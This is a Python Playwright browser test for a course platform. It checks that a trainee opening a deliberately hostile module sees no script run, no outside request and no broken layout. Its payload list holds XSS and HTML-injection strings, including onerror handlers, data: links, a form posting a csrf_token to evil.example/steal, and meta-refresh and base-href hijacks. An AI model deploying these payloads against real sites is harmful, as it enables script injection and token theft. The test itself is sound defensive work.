"""A module written to do harm, opened in a real browser by a trainee: nothing runs, loads or leaves its place."""

from collections.abc import Iterator
from urllib.parse import urlsplit
from zoneinfo import ZoneInfo

import pytest
from playwright.sync_api import Dialog, Page, Request, expect

from tests.browser.conftest import Sit
from tests.browser.seat import Seat
from tests.curriculum.test_hostile_text import LOADS_OR_BREAKS, RUNS_A_SCRIPT
from tests.support.care_course import care_course, module_file
from tests.support.databases import SqliteTemplates, url_of
from tests.support.site import served_at_once
from trainer import clock
from trainer.access import PLATFORM, RoleName
from trainer.actions import inviting
from trainer.actions.editions import Before, Draft, Options, write_edition
from trainer.curriculum.assembling import assemble
from trainer.demonstration.cast import PASSWORD
from trainer.storage.database import Database

COURSE = "hostile"
READER = "jonas@example.org"
MARK = "window.wasRun = true"
MORE = [
    f"<script>{MARK}</script>",
    f"<svg/onload='{MARK}'><animate onbegin='{MARK}' attributeName=x dur=1s></svg>",
    f"<img src=x onerror='{MARK}' srcset='https://evil.example/a.png 1x, //evil.example/b.png 2x'>",
    f"<body onload='{MARK}'><input autofocus onfocus='{MARK}'><marquee onstart='{MARK}'>x</marquee>",
    "<picture><source srcset='https://evil.example/s.png'><img src='https://evil.example/i.png'></picture>",
    "<a href='data:text/html,<script>alert(1)</script>' target=_blank>data</a> [d](data:text/html,x)",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/css.png);z-index:9999'>cover</p>",
    "<style>footer,nav,header{display:none!important} @import 'https://evil.example/x.css';</style>",
    "<form action='https://evil.example/steal' id=main><button>Send</button><input name=csrf_token></form>",
    "<iframe src='https://evil.example/'></iframe><embed src='//evil.example'><object data='//evil.example'></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    "<link rel=preload as=image href='https://evil.example/p.png'><audio src='//evil.example/a' autoplay></audio>",
    "![out](https://evil.example/i.png) ![out](//evil.example/j.png)",
    "</section></article></div></main></body></html><footer>Mine</footer>",
    "<!-- <div hidden><details><template><noscript><title><select><textarea>",
    "<plaintext><xmp><listing>",
    "<div id=main class=bar hidden>x</div><a id=sources name=quiz>x</a><p id=csrf-token>x</p>",
    "### The main thing {#main}\n\n### Its sources {#sources}\n\n### The quiz {#quiz}",
    "| a | b |\n|---|---|\n| " + "wide" * 80 + " | " + "wider" * 80 + " |",
    "W" + "o" * 3_000 + "rd",
    "`" + "c" * 2_000 + "`",
    "https://example.org/" + "a" * 1_500,
    "[" + "l" * 1_500 + "](https://example.org/)",
    "$" + "x + " * 400 + "x$",
    "$$" + "\\frac{" * 30 + "x" + "}{y}" * 30 + "$$",
    "\u202e evorp siht \u202d \u2066\u2067\u2068 no end \u200f\u061c",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334" * 40,
    "> " * 40 + "deep",
    "\n".join("  " * depth + "- deep" for depth in range(40)),
]
SWALLOWS = (
    "```",
    "$$",
    "<!-- never closed",
    "x <!-- never closed",
    "````\n<!--",
    "~~~",
    "<textarea>",
    "```check\nid: x",
)
"""What swallows the rest of a file, or would like to: each has a module of its own."""
ATTACKS = [text for text in (*RUNS_A_SCRIPT, *LOADS_OR_BREAKS, *MORE) if text not in SWALLOWS]
HOSTILE = [f"sessions/{name}" for name in ("presence", *(f"swallow-{place}" for place in range(len(SWALLOWS))))]
ENDS = "The text has come to its end."


def hostile_course() -> dict[str, bytes]:
    """A course in whose modules every attack has a section of its own, or a module."""
    sections = [f"## Section {place} {{#part-{place}}}\n\n{text}\n\n" for place, text in enumerate(ATTACKS)]
    presence = "".join(sections) + f"## The return {{#return}}\n\n{ENDS}\n"
    modules: dict[str, str | bytes | None] = {
        "curriculum/sessions/presence.md": module_file("Presence <script>alert(1)</script>", "S1", presence)
    }
    for place, text in enumerate(SWALLOWS):
        body = f"## Open {{#open}}\n\n{text}\n\n## After {{#after}}\n\nMore.\n"
        modules[f"curriculum/sessions/swallow-{place}.md"] = module_file(f"Swallow {place}", f"W{place}", body)
    names = ", ".join(key.partition("/")[2] for key in HOSTILE)
    course = care_course()["curriculum/course.yml"].decode().replace("modules: [presence]", f"modules: [{names}]")
    course = course.replace("course: care", f"course: {COURSE}")
    return care_course({"curriculum/course.yml": course, **modules})


def publish_past_every_check(database: Database) -> None:
    """Publish it as if no check had found anything, so that rendering alone stands between author and reader."""
    files, now = hostile_course(), clock.now(ZoneInfo("UTC"))
    draft = Draft(files=files, fresh=tuple(files), kept=(), retired=())
    write_edition(database, PLATFORM, assemble(files).course(), draft, Before(), 1, (), Options(), now)
    token = inviting.invite(database, PLATFORM, READER, RoleName.TRAINEE, course=COURSE, cohort=None, now=now)
    inviting.accept(database, token, "Jonas", PASSWORD, "a test", now)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The hostile course, served."""
    templates = SqliteTemplates(tmp_path_factory.mktemp("hostile"))
    database = templates.get("hostile", publish_past_every_check)
    with served_at_once(url_of(database), tmp_path_factory.mktemp("site")) as address:
        yield address
    templates.take_back()


class Watch:
    """What a page does that no page may do."""

    def __init__(self, seat: Seat, site: str) -> None:
        self.wrong: list[str] = []
        self._host = urlsplit(site).netloc
        seat.page.on("dialog", self._note_dialog)
        seat.context.on("request", self._note_request)
        seat.context.on("page", lambda page: self.wrong.append(f"another page opened: {page.url}"))

    def look(self, page: Page) -> list[str]:
        """Everything wrong so far, with what a script would have left."""
        return self.wrong + (["a script ran"] if page.evaluate("'wasRun' in window") else [])

    def _note_dialog(self, dialog: Dialog) -> None:
        self.wrong.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _note_request(self, request: Request) -> None:
        if urlsplit(request.url).netloc != self._host:
            self.wrong.append(f"request: {request.url}")


@pytest.mark.parametrize("key", HOSTILE)
@pytest.mark.parametrize("width", [1440, 320])
def test_a_hostile_module_runs_nothing_loads_nothing_and_stays_in_its_place(
    hostile_site: str, sit: Sit, key: str, width: int
) -> None:
    seat = sit(hostile_site, READER, width=width)
    watch = Watch(seat, hostile_site)

    seat.go(f"/courses/hostile/modules/{key}")
    seat.page.wait_for_load_state("networkidle")
    seat.page.mouse.wheel(0, 100_000)
    seat.page.wait_for_load_state("networkidle")

    assert watch.look(seat.page) == []
    assert seat.page.url == f"{hostile_site}/courses/hostile/modules/{key}"
    assert not seat.is_too_wide()
    assert frame(seat.page) == ["a.skip", "header.bar", "main#main", "footer.foot"]
    assert doubled_ids(seat.page) == []
    for place in (seat.page.get_by_role("navigation", name="Main"), seat.page.get_by_role("navigation", name="About")):
        expect(place).to_be_visible()
    assert covered(seat.page) == []


def test_every_attack_stands_in_its_own_section(hostile_site: str, sit: Sit) -> None:
    seat = sit(hostile_site, READER)

    seat.go("/courses/hostile/modules/sessions/presence")

    expect(seat.page.locator("article > section.section")).to_have_count(len(ATTACKS) + 1)
    expect(seat.page.locator("#section-return")).to_contain_text(ENDS)
    expect(seat.page.get_by_role("heading", level=1)).to_have_text("Presence <script>alert(1)</script>")


def test_no_link_of_a_hostile_module_does_anything_but_lead_somewhere(hostile_site: str, sit: Sit) -> None:
    seat = sit(hostile_site, READER)

    seat.go("/courses/hostile/modules/sessions/presence")

    schemes = seat.page.eval_on_selector_all(
        "a[href]", "links => [...new Set(links.map(link => link.protocol))].sort()"
    )
    assert schemes == ["http:", "https:"]
    forms = seat.page.eval_on_selector_all("form", "forms => forms.map(form => new URL(form.action).host)")
    assert set(forms) == {urlsplit(hostile_site).netloc}


def frame(page: Page) -> list[str]:
    """What stands directly in the body, without scripts."""
    found: list[str] = page.eval_on_selector_all(
        "body > :not(script)",
        "all => all.map(each => each.localName + (each.className ? '.' + each.className : '')"
        " + (each.id ? '#' + each.id : ''))",
    )
    return found


def doubled_ids(page: Page) -> list[str]:
    """Ids that stand more than once."""
    found: list[str] = page.eval_on_selector_all(
        "[id]",
        "all => all.map(each => each.id).filter((id, place, ids) => ids.indexOf(id) !== place)",
    )
    return found


def covered(page: Page) -> list[str]:
    """Links of the frame that something lies upon."""
    found: list[str] = page.eval_on_selector_all(
        "header.bar > a, header.bar nav a, footer.foot a",
        """links => links.filter(link => {
            link.scrollIntoView({block: "center"});
            const box = link.getClientRects()[0];
            const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
            return !link.contains(top);
        }).map(link => link.textContent)""",
    )
    return found
